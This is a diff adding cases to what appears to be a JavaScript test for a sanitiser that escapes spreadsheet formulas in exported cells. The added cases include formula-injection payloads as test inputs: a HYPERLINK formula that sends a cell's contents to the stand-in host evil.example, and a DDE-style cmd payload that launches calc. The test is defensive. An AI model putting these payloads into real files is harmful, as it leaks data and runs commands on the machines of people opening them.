@@ -25,6 +25,10 @@ test.each([
   ['+cmd', "'+cmd"],
   ['-A1', "'-A1"],
   ['\u200E=1', "'=1"],
+  ['+ HYPERLINK("https://evil.example/?"&A1)', `'+ HYPERLINK("https://evil.example/?"&A1)`],
+  ['-(HYPERLINK("https://evil.example"))', `'-(HYPERLINK("https://evil.example"))`],
+  ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
+  ['+1 (555) 010-0201', '+1 (555) 010-0201'],
   ['+1 555 010 0201', '+1 555 010 0201'],
   ['-2.5', '-2.5'],
 ])('a spreadsheet is not made to compute %s', (value, cell) => {
